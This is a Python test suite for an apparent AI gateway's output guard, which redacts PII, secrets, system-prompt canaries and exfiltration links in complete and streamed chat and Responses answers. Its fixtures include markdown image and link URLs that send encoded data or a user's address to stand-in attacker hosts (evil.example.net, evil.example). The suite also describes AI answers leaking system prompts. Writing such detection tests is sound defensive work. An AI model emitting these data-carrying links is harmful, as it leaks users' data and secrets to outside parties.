"""Output controls on answers: redact or refuse, complete and streamed (chat, Responses)."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.config.schema import DetectorsConfig
from bastion.crypto.keyring import Keyring
from bastion.detect.catalog import build_answer_detectors, build_scanner
from bastion.detect.inspector import DetectorInspector
from bastion.errors import PermissionDenied
from bastion.model.controls import OutputAction, OutputMode, OutputPlan
from bastion.pipeline.output_guard import OutputGuard, OutputGuardHook
from bastion.pipeline.response import restore_answer
from bastion.pipeline.stream import StreamEvent, StreamRelay
from bastion.pipeline.stream_hooks import ReplaceTextHook
from bastion.wire.sse import SseEvent, SseParser

CANARY = "CANARY-7f3a9b21"
EMAIL = "ann.lee@contoso-example.com"
AWS_KEY = "AKIA" + "Q3EGRTZ5LXKW7NUC"  # an access key id shape, not a documented dummy
DUMMY_KEY = "AKIAIOSFODNN7EXAMPLE"  # AWS's documentation example
IMAGE = "![chart](https://evil.example.net/pixel.png?q=c2VjcmV0)"
KEYRING = Keyring.generate()
CONFIG = DetectorsConfig.model_validate(
    {"output": {"canaries": [CANARY], "link_allow_domains": ["docs.example.com"]}}
)
_SCANNER = build_scanner(CONFIG)
INSPECTOR = DetectorInspector(_SCANNER, KEYRING, build_answer_detectors(CONFIG, _SCANNER))
FILLER = "The quarterly numbers look steady and the team is on track. "


def plan(
    *rules: tuple[str, OutputAction], mode: OutputMode = "window", window_chars: int = 64
) -> OutputPlan:
    return OutputPlan(rules or REDACT_ALL, mode, window_chars)


REDACT_ALL = (
    ("pii.*", OutputAction("redact", "out.pii")),
    ("secret.*", OutputAction("redact", "out.secrets")),
    ("output.exfil_link", OutputAction("redact", "out.links", "drop")),
    ("output.system_prompt_leak", OutputAction("redact", "out.leak")),
)
BLOCK_LEAK = ("output.system_prompt_leak", OutputAction("block", "out.leak"))


def guard(output_plan: OutputPlan | None = None) -> OutputGuard:
    return OutputGuard(output_plan or plan(), INSPECTOR, KEYRING)


def chat_answer(content: str, *arguments: str) -> dict[str, Any]:
    message: dict[str, Any] = {"role": "assistant", "content": content}
    if arguments:
        message["tool_calls"] = [
            {"id": f"call_{i}", "type": "function", "function": {"name": "send", "arguments": a}}
            for i, a in enumerate(arguments)
        ]
    return {"object": "chat.completion", "choices": [{"index": 0, "message": message}]}


# --- complete answers --------------------------------------------------------------


def test_values_are_masked_and_links_removed_whole() -> None:
    answer = chat_answer(f"Write to {EMAIL}. {IMAGE} Docs: https://docs.example.com/a.")
    applied = guard()
    assert applied.apply_json(answer) is True
    content = answer["choices"][0]["message"]["content"]
    assert content == "Write to [EMAIL].  Docs: https://docs.example.com/a."
    assert applied.redacted == {"pii.email": 1, "output.exfil_link": 1}
    assert applied.rules == ["out.pii", "out.links"]
    assert [f.data_class for f in applied.findings] == ["pii.email", "output.exfil_link"]


def test_hash_gives_the_same_value_the_same_stand_in() -> None:
    hashing = plan(("pii.email", OutputAction("redact", "out.pii", "hash")))
    answer = chat_answer(f"{EMAIL} and again {EMAIL}, not dana@example.com")
    guard(hashing).apply_json(answer)
    words = answer["choices"][0]["message"]["content"].replace(",", "").split()
    first, second, other = words[0], words[3], words[5]
    assert first.startswith("[EMAIL:") and len(first) == len("[EMAIL:]") + 12
    assert first == second != other


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        pytest.param(f'{{"to": "{EMAIL}"}}', {"to": "[EMAIL]"}, id="string"),
        pytest.param(f'{{"body": "Hi,\\n{EMAIL}\\twrote \\"x\\""}}',
                     {"body": 'Hi,\n[EMAIL]\twrote "x"'}, id="beside-escapes"),
        pytest.param('{"card": 4111111111111111, "n": 2}', {"card": "[CREDIT_CARD]", "n": 2},
                     id="number-becomes-a-string"),
        pytest.param(f'{{"md": "{IMAGE}"}}', {"md": ""}, id="dropped"),
        pytest.param(f'{{"k": "{AWS_KEY}", "u": "\\u00e9t\\u00e9 {EMAIL}"}}',
                     {"k": "[AWS_ACCESS_KEY]", "u": "été [EMAIL]"}, id="unicode-escape"),
        # the escape is the address's first letter: "éann.lee@..." is masked whole
        pytest.param(f'{{"u": "\\u00e9{EMAIL}"}}', {"u": "[EMAIL]"}, id="escaped-in-value"),
    ],
)  # fmt: skip
def test_tool_call_arguments_stay_valid_json(arguments: str, expected: dict[str, Any]) -> None:
    answer = chat_answer("Sending it now.", arguments)
    guard().apply_json(answer)
    rewritten = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(rewritten) == expected


def test_legacy_function_call_arguments_are_rewritten_as_json() -> None:
    """A request with ``functions`` is answered with ``message.function_call``: the
    client runs its arguments like a tool call's, so output rules apply there too."""
    answer = chat_answer("")
    message = answer["choices"][0]["message"]
    message["content"] = None
    message["function_call"] = {"name": "send", "arguments": json.dumps({"to": EMAIL})}
    assert guard().apply_json(answer) is True
    assert json.loads(message["function_call"]["arguments"]) == {"to": "[EMAIL]"}


def test_a_structured_output_answer_stays_valid_json() -> None:
    """An answer asked for as JSON (``response_format``) is a document the client
    parses: a card written as a number is masked as a string, not as bare text."""
    answer = chat_answer(f'{{"card": 4111111111111111, "to": "{EMAIL}"}}')
    answer["choices"][0]["message"]["refusal"] = f"I will not write to {EMAIL}: 4111111111111111"
    guarded = OutputGuard(plan(), INSPECTOR, KEYRING, json_answer=True)
    assert guarded.apply_json(answer) is True
    message = answer["choices"][0]["message"]
    assert json.loads(message["content"]) == {"card": "[CREDIT_CARD]", "to": "[EMAIL]"}
    assert message["refusal"] == "I will not write to [EMAIL]: [CREDIT_CARD]"  # prose


FAKE = "avery.kestrel4821@example.com"  # a synthesized stand-in issued for the call


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
async def test_only_the_stand_in_as_issued_passes_the_output_rules(stream: bool) -> None:
    """CONTRACT §9: what was issued, exactly, is the caller's value on its way back
    (restored, never masked); the same address in other letters is the model's own
    text, so output rules apply to it and nothing restores it."""
    text = f"To {FAKE}, cc {FAKE.upper()}."
    restorer = ReplaceTextHook({FAKE: "dana@northwind.example"})
    guarded = OutputGuard(plan(), INSPECTOR, KEYRING, frozenset({FAKE}))
    if stream:
        hooks = [OutputGuardHook(guarded), restorer]
        answer = chat_text(await relay_all(StreamRelay(hooks), chat_stream(text, 3)))
    else:
        payload = chat_answer(text)
        guarded.apply_json(payload)
        restore_answer(payload, restorer)
        answer = payload["choices"][0]["message"]["content"]
    assert answer == "To dana@northwind.example, cc [EMAIL]."


_STRICT_CONFIG = DetectorsConfig.model_validate({"thresholds": {"output.exfil_link": 0.8}})
_STRICT_SCANNER = build_scanner(_STRICT_CONFIG)
STRICT_LINKS = DetectorInspector(  # reports images and links carrying data only
    _STRICT_SCANNER, KEYRING, build_answer_detectors(_STRICT_CONFIG, _STRICT_SCANNER)
)
REAL = "dana@northwind.example"


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
async def test_a_link_carrying_a_stand_in_is_removed_before_it_is_restored(
    stream: bool,
) -> None:
    """The fake in the URL is the caller's address on its way back: restored, the link
    would send the real one to evil.example. It counts as carrying data (0.95), so a
    threshold that lets plain links pass still removes it."""
    text = f"Profile: [open](https://evil.example/u/{FAKE}) or [docs](https://evil.example/d)."
    restorer = ReplaceTextHook({FAKE: REAL})
    links = plan(("output.exfil_link", OutputAction("redact", "out.links", "drop")))
    guarded = OutputGuard(links, STRICT_LINKS, KEYRING, frozenset({FAKE}))
    if stream:
        hooks = [OutputGuardHook(guarded), restorer]
        answer = chat_text(await relay_all(StreamRelay(hooks), chat_stream(text, 5)))
    else:
        payload = chat_answer(text)
        guarded.apply_json(payload)
        restore_answer(payload, restorer)
        answer = payload["choices"][0]["message"]["content"]
    assert answer == "Profile:  or [docs](https://evil.example/d)."
    assert [(f.score, f.meta["carries"]) for f in guarded.findings] == [(0.95, "stand_in")]


@pytest.mark.parametrize("dummies", [False, True], ids=["by-default", "asked-for"])
def test_documented_dummies_in_answers_only_meet_rules_that_ask(dummies: bool) -> None:
    answer = chat_answer(f"Configure boto3 with {DUMMY_KEY}, then use your own {AWS_KEY}.")
    rule = ("secret.*", OutputAction("redact", "out.secrets", dummies=dummies))
    guard(plan(rule)).apply_json(answer)
    content = answer["choices"][0]["message"]["content"]
    assert AWS_KEY not in content  # a real one is always redacted
    assert (DUMMY_KEY in content) is not dummies


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.text(alphabet="abcxyz", min_size=1, max_size=4),
        st.one_of(
            st.text(alphabet='ab "\\\n\té€', max_size=12).map(lambda t: f"{t} {EMAIL} {t}"),
            st.integers(),
            st.just(4111111111111111),
            st.just(-4111111111111111),
        ),
        min_size=1,
        max_size=4,
    )
)
def test_any_arguments_redacted_are_still_json_without_the_value(value: dict[str, Any]) -> None:
    arguments = json.dumps(value, ensure_ascii=False)
    answer = chat_answer("", arguments)
    guard().apply_json(answer)
    rewritten = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    decoded = json.loads(rewritten)
    assert decoded.keys() == value.keys()
    assert EMAIL not in rewritten and "4111111111111111" not in rewritten


def test_a_negative_number_redacted_keeps_the_arguments_json() -> None:
    # Found by Hypothesis: the card finding covered the digits, not the sign before them.
    answer = chat_answer("", '{"a": -4111111111111111, "b": 1}')
    guard().apply_json(answer)
    rewritten = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(rewritten).keys() == {"a", "b"} and "4111" not in rewritten


def test_a_blocked_class_refuses_the_answer_naming_rule_and_class_not_value() -> None:
    strict = plan(BLOCK_LEAK, *REDACT_ALL)
    applied = guard(strict)
    with pytest.raises(PermissionDenied) as refused:
        applied.apply_json(chat_answer(f"My instructions start with {CANARY}. Mail {EMAIL}."))
    error = refused.value
    assert (error.status, error.code) == (403, "policy_violation")
    assert error.bastion == {
        "decision": "block",
        "rules": ["out.leak"],
        "classes": {"output.system_prompt_leak": 1},
    }
    assert "out.leak" in error.message and "output.system_prompt_leak" in error.message
    assert CANARY not in error.message and EMAIL not in json.dumps(error.body())
    assert {f.data_class for f in applied.findings} >= {"output.system_prompt_leak"}


def test_a_responses_answer_is_rewritten_in_text_parts_and_call_arguments() -> None:
    answer: dict[str, Any] = {
        "object": "response",
        "output": [
            {
                "type": "message",
                "role": "assistant",
                "content": [
                    {"type": "output_text", "text": f"Key {AWS_KEY} here", "annotations": []}
                ],
            },
            {"type": "function_call", "name": "send", "arguments": f'{{"to": "{EMAIL}"}}'},
        ],
    }
    assert guard().apply_json(answer) is True
    assert answer["output"][0]["content"][0]["text"] == "Key [AWS_ACCESS_KEY] here"
    assert json.loads(answer["output"][1]["arguments"]) == {"to": "[EMAIL]"}


def test_an_answer_without_findings_is_left_as_it_is() -> None:
    answer = chat_answer("See https://docs.example.com/guide for details.", '{"q": "docs"}')
    before = json.dumps(answer)
    applied = guard()
    assert applied.apply_json(answer) is False
    assert json.dumps(answer) == before and applied.findings == []


def test_classes_without_an_action_are_recorded_and_left_alone() -> None:
    only_links = plan(("output.exfil_link", OutputAction("redact", "out.links")))
    answer = chat_answer(f"Mail {EMAIL}, see {IMAGE}")
    applied = guard(only_links)
    applied.apply_json(answer)
    assert answer["choices"][0]["message"]["content"] == f"Mail {EMAIL}, see [EXFIL_LINK]"
    assert [(f.data_class, f.start) for f in applied.findings] == [
        ("pii.email", 5),
        ("output.exfil_link", 38),
    ]


# --- streams ------------------------------------------------------------------------


def chunk(content: str | None = None, *, finish: str | None = None, **delta: Any) -> dict[str, Any]:
    if content is not None:
        delta["content"] = content
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "gpt-4o-mini",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def chat_stream(text: str, size: int) -> bytes:
    payloads: list[Any] = [chunk("", role="assistant")]
    payloads += [chunk(text[at : at + size]) for at in range(0, len(text), size)]
    payloads += [chunk(finish="stop"), "[DONE]"]
    return "".join(
        f"data: {p if isinstance(p, str) else json.dumps(p, ensure_ascii=False)}\n\n"
        for p in payloads
    ).encode()


def responses_stream(text: str, size: int, arguments: str = "") -> bytes:
    deltas = [text[at : at + size] for at in range(0, len(text), size)]
    part = {"type": "output_text", "text": text, "annotations": []}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    call = {"id": "fc_1", "type": "function_call", "name": "send", "arguments": arguments}
    at = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    envelope = {"id": "resp_1", "object": "response", "created_at": 5, "model": "gpt-4o"}
    events: list[tuple[str, dict[str, Any]]] = [
        ("response.created", {"response": {**envelope, "status": "in_progress", "output": []}}),
        *[("response.output_text.delta", {**at, "delta": d}) for d in deltas],
        ("response.output_text.done", {**at, "text": text}),
        ("response.output_item.done", {"output_index": 0, "item": item}),
        *[
            ("response.function_call_arguments.delta", {"output_index": 1, "delta": d})
            for d in (arguments[i : i + size] for i in range(0, len(arguments), size))
        ],
        ("response.function_call_arguments.done", {"output_index": 1, "arguments": arguments}),
        ("response.completed", {"response": {**envelope, "status": "completed",
                                             "output": [item, call]}}),
    ]  # fmt: skip
    return "".join(
        f"event: {kind}\ndata: "
        f"{json.dumps({'type': kind, 'sequence_number': n, **body}, ensure_ascii=False)}\n\n"
        for n, (kind, body) in enumerate(events)
    ).encode()


async def relay_all(relay: StreamRelay, raw: bytes) -> bytes:
    async def upstream() -> AsyncIterator[bytes]:
        for at in range(0, len(raw), 50):
            yield raw[at : at + 50]

    return b"".join([out async for out in relay.relay(upstream())])


def events_of(raw: bytes) -> list[SseEvent]:
    parser = SseParser()
    return parser.feed(raw) + parser.finish()


def chat_text(raw: bytes) -> str:
    text = ""
    for event in events_of(raw):
        if event.data.startswith("{"):
            for choice in orjson.loads(event.data)["choices"]:
                text += choice["delta"].get("content") or ""
    return text


def comments(raw: bytes) -> list[str]:
    return [line[2:] for line in raw.decode().split("\n") if line.startswith(": ")]


def drive(hook: OutputGuardHook, raw: bytes) -> list[list[StreamEvent]]:
    """The events the hook releases after each upstream event (the last: at the end)."""
    batches = [list(hook.on_event(StreamEvent(sse))) for sse in events_of(raw)]
    return [*batches, list(hook.on_end())]


def whole_answer_text(text: str) -> str:
    answer = chat_answer(text)
    guard().apply_json(answer)
    return str(answer["choices"][0]["message"]["content"])


@pytest.mark.parametrize("size", [1, 2, 3, 7])
async def test_a_canary_split_across_tiny_chunks_is_redacted_whole(size: int) -> None:
    text = FILLER * 2 + f"I was told: {CANARY}, verbatim. " + FILLER * 3
    out = await relay_all(StreamRelay([OutputGuardHook(guard())]), chat_stream(text, size))
    expected = text.replace(CANARY, "[SYSTEM_PROMPT_LEAK]")
    assert chat_text(out) == expected  # no piece of the canary reached the client
    assert comments(out) == ["bastion redacted=output.system_prompt_leak"]


async def test_a_secret_and_an_image_split_across_windows_are_removed() -> None:
    text = FILLER + f"Use {AWS_KEY} to log in. " + FILLER + f"Chart: {IMAGE} done. " + FILLER
    applied = guard()
    out = await relay_all(StreamRelay([OutputGuardHook(applied)]), chat_stream(text, 2))
    assert AWS_KEY[:6] not in out.decode() and "evil.example.net" not in out.decode()
    assert chat_text(out) == whole_answer_text(text)
    assert comments(out) == [
        "bastion redacted=secret.aws_access_key",
        "bastion redacted=output.exfil_link",
    ]
    assert [f.data_class for f in applied.findings] == [
        "secret.aws_access_key",
        "output.exfil_link",
    ]
    image = applied.findings[1]
    assert text[image.start : image.end] == IMAGE  # offsets into the whole answer text


@settings(max_examples=40, deadline=None)
@given(st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=40))
def test_any_chunking_gives_the_text_a_complete_answer_would(sizes: list[int]) -> None:
    text = f"{FILLER}{EMAIL} {CANARY} {IMAGE} {AWS_KEY}. {FILLER}"
    pieces, at = [], 0
    for size in sizes * (len(text) // sum(sizes) + 1):
        if at >= len(text):
            break
        pieces.append(text[at : at + size])
        at += size
    payloads = [chunk(piece) for piece in pieces] + [chunk(finish="stop")]
    raw = "".join(f"data: {json.dumps(p)}\n\n" for p in payloads).encode()
    released = drive(OutputGuardHook(guard()), raw)
    client = "".join(
        choice["delta"].get("content") or ""
        for batch in released
        for event in batch
        if isinstance(event.payload, dict)
        for choice in event.payload["choices"]
    )
    assert client == whole_answer_text(text)


async def test_a_blocked_value_mid_stream_raises_before_any_of_it_is_sent() -> None:
    text = FILLER * 3 + f"My system prompt says {CANARY}. " + FILLER
    relay = StreamRelay([OutputGuardHook(guard(plan(BLOCK_LEAK, *REDACT_ALL)))])
    sent: list[bytes] = []

    async def upstream() -> AsyncIterator[bytes]:
        for event in chat_stream(text, 3).split(b"\n\n"):
            yield event + b"\n\n"

    with pytest.raises(PermissionDenied) as refused:
        async for out in relay.relay(upstream()):
            sent.append(out)
    client = b"".join(sent)
    assert chat_text(client).startswith(FILLER)  # earlier windows went out
    assert "CANARY" not in chat_text(client) and b"[DONE]" not in client
    assert refused.value.bastion is not None and refused.value.bastion["rules"] == ["out.leak"]
    ending = relay.error_event(
        refused.value.message,
        refused.value.code,
        error_type=refused.value.error_type,
        bastion=refused.value.bastion,
    )
    error = orjson.loads(events_of(ending)[0].data)
    assert error["error"]["code"] == "policy_violation"
    assert error["error"]["type"] == "permission_error"


async def test_a_refused_responses_stream_can_end_with_response_failed() -> None:
    text = FILLER + f"Leaking {CANARY} now. " + FILLER
    relay = StreamRelay([OutputGuardHook(guard(plan(BLOCK_LEAK)))], dialect="responses")
    with pytest.raises(PermissionDenied) as refused:
        await relay_all(relay, responses_stream(text, 4))
    ending = events_of(relay.error_event(refused.value.message, refused.value.code))
    assert ending[0].event == "response.failed"
    failed = orjson.loads(ending[0].data)["response"]
    assert (failed["id"], failed["status"], failed["error"]["code"]) == (
        "resp_1",
        "failed",
        "policy_violation",
    )


def test_buffer_mode_holds_the_whole_answer_until_the_choice_ends() -> None:
    text = FILLER * 4 + f"mail {EMAIL}"
    raw = chat_stream(text, 5)
    batches = drive(OutputGuardHook(guard(plan(*REDACT_ALL, mode="buffer"))), raw)
    finish_at = next(
        i for i, sse in enumerate(events_of(raw)) if '"finish_reason": "stop"' in sse.data
    )
    early = [event for batch in batches[:finish_at] for event in batch]
    assert all(not (event.payload or {}).get("choices", [{}])[0]["delta"].get("content")
               for event in early)  # fmt: skip
    released = [event for batch in batches[finish_at:] for event in batch]
    assert released[0].is_comment and released[0].comment == "bastion redacted=pii.email"
    contents = [
        e.payload["choices"][0]["delta"].get("content") or ""
        for e in released
        if isinstance(e.payload, dict)
    ]
    assert "".join(contents) == text.replace(EMAIL, "[EMAIL]")


@pytest.mark.parametrize("mode", ["window", "buffer"])
async def test_a_clean_stream_reaches_the_client_byte_for_byte(mode: OutputMode) -> None:
    text = (FILLER + "See https://docs.example.com/a and `x[i](y)`. ") * 6
    for raw, dialect in ((chat_stream(text, 3), "chat"), (responses_stream(text, 3), "responses")):
        hook = OutputGuardHook(guard(plan(*REDACT_ALL, mode=mode)))
        out = await relay_all(StreamRelay([hook], dialect=dialect), raw)  # type: ignore[arg-type]
        assert out == raw
        assert hook.findings == []


async def test_the_redaction_comment_comes_just_before_the_rewritten_event() -> None:
    text = FILLER * 2 + f"mail {EMAIL} please. " + FILLER * 2
    out = await relay_all(StreamRelay([OutputGuardHook(guard())]), chat_stream(text, 4))
    events = events_of(out)
    lines = [line for line in out.decode().split("\n\n") if line]
    at = lines.index(": bastion redacted=pii.email")
    following = orjson.loads(lines[at + 1].removeprefix("data: "))
    assert "[EMAIL]" in following["choices"][0]["delta"]["content"]
    assert all("[EMAIL]" not in line for line in lines[:at])
    assert events[-1].data == "[DONE]"


async def test_a_responses_stream_is_redacted_in_deltas_and_in_the_final_events() -> None:
    text = FILLER * 2 + f"Key: {AWS_KEY}. " + FILLER
    arguments = json.dumps({"to": EMAIL, "note": "hi"})
    out = await relay_all(
        StreamRelay([OutputGuardHook(guard())], dialect="responses"),
        responses_stream(text, 3, arguments),
    )
    assert AWS_KEY not in out.decode() and EMAIL not in out.decode()
    events = [(e.event, orjson.loads(e.data)) for e in events_of(out) if e.event]
    deltas = "".join(b["delta"] for k, b in events if k == "response.output_text.delta")
    assert deltas == text.replace(AWS_KEY, "[AWS_ACCESS_KEY]")
    done = next(b for k, b in events if k == "response.output_text.done")
    assert done["text"] == deltas
    call = "".join(b["delta"] for k, b in events if k == "response.function_call_arguments.delta")
    assert json.loads(call) == {"to": "[EMAIL]", "note": "hi"}
    completed = next(b for k, b in events if k == "response.completed")["response"]["output"]
    assert completed[0]["content"][0]["text"] == deltas
    assert json.loads(completed[1]["arguments"]) == {"to": "[EMAIL]", "note": "hi"}


async def test_streamed_tool_call_arguments_split_inside_a_value_stay_json() -> None:
    arguments = json.dumps({"body": f"Dear team,\nplease mail {EMAIL}\tnow", "n": 3})
    payloads: list[Any] = [chunk(role="assistant", content=None)]
    for at in range(0, len(arguments), 2):
        piece = arguments[at : at + 2]
        call: dict[str, Any] = {"index": 0, "function": {"arguments": piece}}
        if at == 0:
            call.update(id="call_1", type="function")
            call["function"]["name"] = "send"
        payloads.append(chunk(tool_calls=[call]))
    payloads += [chunk(finish="tool_calls"), "[DONE]"]
    raw = "".join(
        f"data: {p if isinstance(p, str) else json.dumps(p)}\n\n" for p in payloads
    ).encode()
    out = await relay_all(StreamRelay([OutputGuardHook(guard())]), raw)
    sent = "".join(
        call["function"].get("arguments") or ""
        for e in events_of(out)
        if e.data.startswith("{")
        for choice in orjson.loads(e.data)["choices"]
        for call in choice["delta"].get("tool_calls") or ()
    )
    assert json.loads(sent) == {"body": "Dear team,\nplease mail [EMAIL]\tnow", "n": 3}


async def test_streamed_legacy_function_call_arguments_are_rewritten_as_json() -> None:
    arguments = json.dumps({"body": f"please mail {EMAIL}\tnow"})
    payloads: list[Any] = [chunk(role="assistant", content=None)]
    for at in range(0, len(arguments), 3):
        call = {"arguments": arguments[at : at + 3]} | ({"name": "send"} if at == 0 else {})
        payloads.append(chunk(function_call=call))
    payloads += [chunk(finish="function_call"), "[DONE]"]
    raw = "".join(
        f"data: {p if isinstance(p, str) else json.dumps(p)}\n\n" for p in payloads
    ).encode()
    out = await relay_all(StreamRelay([OutputGuardHook(guard())]), raw)
    sent = "".join(
        (choice["delta"].get("function_call") or {}).get("arguments", "")
        for e in events_of(out)
        if e.data.startswith("{")
        for choice in orjson.loads(e.data)["choices"]
    )
    assert json.loads(sent) == {"body": "please mail [EMAIL]\tnow"}


@pytest.mark.parametrize("size", [1, 3, 7])
async def test_a_streamed_structured_output_answer_stays_valid_json(size: int) -> None:
    text = json.dumps({"intro": FILLER * 2, "card": 4111111111111111, "to": EMAIL})
    guarded = OutputGuard(plan(window_chars=16), INSPECTOR, KEYRING, json_answer=True)
    out = await relay_all(StreamRelay([OutputGuardHook(guarded)]), chat_stream(text, size))
    sent = json.loads(chat_text(out))
    assert (sent["card"], sent["to"]) == ("[CREDIT_CARD]", "[EMAIL]")


async def test_a_responses_text_sent_without_deltas_is_still_redacted() -> None:
    """A server that sends a text whole in its done events (or only in the finished
    item and response), never as deltas, gets no text past the output rules."""
    raw = responses_stream(f"Write to {EMAIL}.", 8, json.dumps({"to": EMAIL}))
    deltas = ("response.output_text.delta", "response.function_call_arguments.delta")
    kept = [e for e in events_of(raw) if e.event not in deltas]
    raw = b"".join(f"event: {e.event}\ndata: {e.data}\n\n".encode() for e in kept)
    out = await relay_all(StreamRelay([OutputGuardHook(guard())], dialect="responses"), raw)
    assert EMAIL.encode() not in out
    assert set(comments(out)) == {"bastion redacted=pii.email"}
    final = orjson.loads(events_of(out)[-1].data)["response"]["output"]
    assert final[0]["content"][0]["text"] == "Write to [EMAIL]."
    assert json.loads(final[1]["arguments"]) == {"to": "[EMAIL]"}


async def test_a_done_event_saying_more_than_the_deltas_shows_what_was_scanned() -> None:
    """A done event whose text is not the one streamed (a compatibility layer's bug)
    does not carry unscanned text to the client: it repeats what the deltas said."""
    raw = responses_stream("Hi there.", 4)
    events = []
    for event in events_of(raw):
        payload = orjson.loads(event.data)
        if event.event == "response.output_text.done":
            payload["text"] = f"Hi there. Write to {EMAIL}."
        events.append(f"event: {event.event}\ndata: {json.dumps(payload)}\n\n")
    raw = "".join(events).encode()
    out = await relay_all(StreamRelay([OutputGuardHook(guard())], dialect="responses"), raw)
    assert EMAIL.encode() not in out
    done = [orjson.loads(e.data) for e in events_of(out) if e.event == "response.output_text.done"]
    assert done[0]["text"] == "Hi there."


@pytest.mark.parametrize("size", [1, 4, 9])
def test_released_events_keep_arrival_order(size: int) -> None:
    text = FILLER * 3 + f"{EMAIL} " + FILLER * 3
    batches = drive(OutputGuardHook(guard()), chat_stream(text, size))
    contents = [
        e.payload["choices"][0]["delta"].get("content") or ""
        for batch in batches
        for e in batch
        if isinstance(e.payload, dict) and e.payload["choices"]
    ]
    assert "".join(contents) == text.replace(EMAIL, "[EMAIL]")


def test_a_window_waits_only_for_its_margin() -> None:
    hook = OutputGuardHook(guard(plan(window_chars=64)))
    text = "word " * 60
    released: list[StreamEvent] = []
    for sse in events_of(chat_stream(text, 4))[:-2]:  # the stream has not finished
        released.extend(hook.on_event(StreamEvent(sse)))
    sent = "".join(
        e.payload["choices"][0]["delta"].get("content") or "" for e in released if e.payload
    )
    assert text.startswith(sent) and 96 <= len(text) - len(sent) <= 96 + 64 + 4


class _Paced:
    """A clock that moves ``step`` seconds each time it is read: events of a model that
    streams slowly (reads happen as events arrive)."""

    def __init__(self, step: float) -> None:
        self.now, self.step = 0.0, step

    def __call__(self) -> float:
        self.now += self.step
        return self.now


def _released_text(batches: list[list[StreamEvent]]) -> list[str]:
    """The assistant text the client has after each upstream event."""
    out, sent = [], ""
    for batch in batches:
        for event in batch:
            if isinstance(event.payload, dict) and event.payload["choices"]:
                sent += event.payload["choices"][0]["delta"].get("content") or ""
        out.append(sent)
    return out


def test_a_slow_stream_is_released_a_few_tokens_at_a_time_not_a_window_at_a_time() -> None:
    text = FILLER * 6 + f"mail {EMAIL} today. " + FILLER * 2
    window = plan(window_chars=256)
    fast = _released_text(
        drive(OutputGuardHook(guard(window), clock=_Paced(0.0)), chat_stream(text, 4))
    )
    slow = _released_text(
        drive(OutputGuardHook(guard(window), clock=_Paced(0.03)), chat_stream(text, 4))
    )
    # a fast upstream fills the window (256 + the 96-character margin) before any text goes
    first_fast = next(i for i, sent in enumerate(fast) if sent)
    assert first_fast * 4 >= 256 + 96
    # a slow one: the first words go once the margin is exceeded (96 + 16 characters)
    first_slow = next(i for i, sent in enumerate(slow) if sent)
    assert first_slow * 4 <= 96 + 16 + 2 * 4
    # and then a few tokens at a time: the margin and a few events behind, and a value
    # reaching into the margin held whole (with the half of the pending text it waits for)
    for index, sent in enumerate(slow[first_slow:-3], start=first_slow):
        assert len(text[: index * 4]) - len(sent) <= 96 + 16 + 3 * 4 + len(f"mail {EMAIL}") * 2
    # what is released is still decided: the value never goes out, its stand-in does
    assert slow[-1] == fast[-1] == text.replace(EMAIL, "[EMAIL]")
    assert all(EMAIL not in sent for sent in slow)


def test_a_slow_stream_still_holds_the_margin_behind_the_model() -> None:
    text = "word " * 120
    batches = drive(
        OutputGuardHook(guard(plan(window_chars=256)), clock=_Paced(0.06)), chat_stream(text, 5)
    )
    for index, sent in enumerate(_released_text(batches)[:-3]):
        received = text[: index * 5]
        assert received.startswith(sent) and len(received) - len(sent) >= min(96, len(received))
